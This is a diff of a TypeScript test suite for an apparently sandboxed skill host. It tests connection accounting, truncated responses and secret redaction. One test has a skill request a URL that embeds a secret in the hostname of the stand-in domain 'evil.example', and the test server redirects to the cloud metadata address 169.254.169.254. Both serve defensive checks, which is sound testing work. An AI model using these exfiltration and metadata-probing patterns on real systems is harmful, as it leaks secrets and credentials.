@@ -9,7 +9,7 @@ import type { SkillManifest } from '../../shared/skills.ts'
 import { verifyBundle } from '../../shared/statement.ts'
 import type { Call } from '../../shared/wire.ts'
 import { Desk, granted, refusal } from '../support/desk.ts'
-import { asking, component, type Parts, Publisher } from '../support/skill.ts'
+import { asking, component, type Parts, Publisher, says } from '../support/skill.ts'
 import { startTestStack } from '../support/stack.ts'
 
 const HOST = 'api.example.test'
@@ -29,7 +29,11 @@ const origin: Server = createServer((request, response) => {
     if (path.startsWith('/moved')) response.writeHead(302, { location: 'http://169.254.169.254/latest' }).end('"moved"')
     else if (path.startsWith('/echo')) response.end(JSON.stringify({ said: request.headers['authorization'] ?? null }))
     else if (path.startsWith('/large')) response.end(Buffer.alloc(3 * 1024 * 1024, 0x20))
-    else if (path.startsWith('/never')) response.writeHead(200).write('"')
+    else if (path.startsWith('/broken')) {
+      response
+        .writeHead(200, { 'content-length': 2_000_000 })
+        .write(Buffer.alloc(700_000, 0x20), () => setTimeout(() => response.destroy(), 50))
+    } else if (path.startsWith('/never')) response.writeHead(200).write('"')
     else response.end(JSON.stringify({ path, method: request.method }))
   })
 })
@@ -84,12 +88,19 @@ async function connections(call: Call) {
   return { connections, host_calls: skill?.host_calls }
 }
 
+const statementText = ({ envelope }: { readonly envelope: { readonly payload: string } }): string =>
+  Buffer.from(envelope.payload, 'base64').toString()
+
 describe('http', () => {
   test('what the host says is the skill’s, and the connection stands in the attestation', async () => {
     const call = await asks({ url: `https://${HOST}/v1/things?x=1` })
     expect(call).toMatchObject({ state: 'succeeded', result: { output: '{"path":"/v1/things?x=1","method":"GET"}' } })
     const { connections: seen, host_calls } = await connections(call)
-    expect(seen).toEqual([{ host: HOST, port: 443, address: '', bytes_out: 0, bytes_in: 40, verdict: 'allowed' }])
+    expect(seen).toEqual([
+      { host: HOST, port: 443, address: '', bytes_out: expect.any(Number), bytes_in: expect.any(Number), verdict: 'allowed' },
+    ])
+    expect(seen?.[0]?.bytes_out).toBeGreaterThanOrEqual(`https://${HOST}/v1/things?x=1`.length)
+    expect(seen?.[0]?.bytes_in).toBeGreaterThan(40) // and its headers
     expect(host_calls).toEqual({ 'http.request': 1, 'http.response': 1 })
   })
 
@@ -144,6 +155,14 @@ describe('http', () => {
     expect((await connections(call)).connections).toEqual([expect.objectContaining({ verdict: 'cap' })])
   })
 
+  test('N15 what comes before a host breaks off is counted too', async () => {
+    const call = await asks({ url: `https://${HOST}/broken` })
+    expect(call.result?.error?.detail).toBe('the host could not be reached')
+    const [seen] = (await connections(call)).connections ?? []
+    expect(seen?.verdict).toBe('failed')
+    expect(seen?.bytes_in).toBeGreaterThan(100_000)
+  })
+
   test('N15 a host that never ends its answer holds the call to its time, and nobody else', async () => {
     const slow = asks({ url: `https://${HOST}/never` }, { timeout_ms: 1_500 })
     const others = await asks({ url: `https://${HOST}/quick` })
@@ -173,6 +192,20 @@ describe('secrets', () => {
   test('one that the manifest names is read, and hidden where the skill says it; another one ends the call', async () => {
     const reader = await enabled(asking({ secret: 'readable' }), { secrets: ['readable'] }, 'reader')
     expect((await called(reader)).result?.output).toBe('"«secret»"')
+  })
+
+  test('V01 V02 a secret that stands in the name of a host, or at the end of what is cut, is hidden, whole', async () => {
+    const value = 'what-it-may-read'
+    granted(await desk.root('putSecret', { params: { name: 'spelled' }, body: { value, tools: ['speller.run', 'shouter.run'] } }))
+    const capabilities = { ...REACHING, secrets: ['spelled'] }
+    const spelled = await called(await enabled(asking({ url: `https://${value}.evil.example/` }), capabilities, 'speller'))
+    const evidence = granted(await agent.client('readAttestation', { params: { run: spelled.run, call: spelled.id } }))
+    const said = Buffer.from(JSON.stringify([spelled, evidence])).toString() + statementText(evidence)
+    expect(said).toContain('«secret».evil.example')
+    expect(said).not.toContain(value)
+    const shouted = `${'x'.repeat(490)}${value}`
+    const shouter = await called(await enabled(says(shouted, 'error'), capabilities, 'shouter'))
+    expect(shouter.result?.error?.detail).toBe(`${'x'.repeat(490)}«secret»`)
   })
 
   test('what is not declared is not imported', async () => {
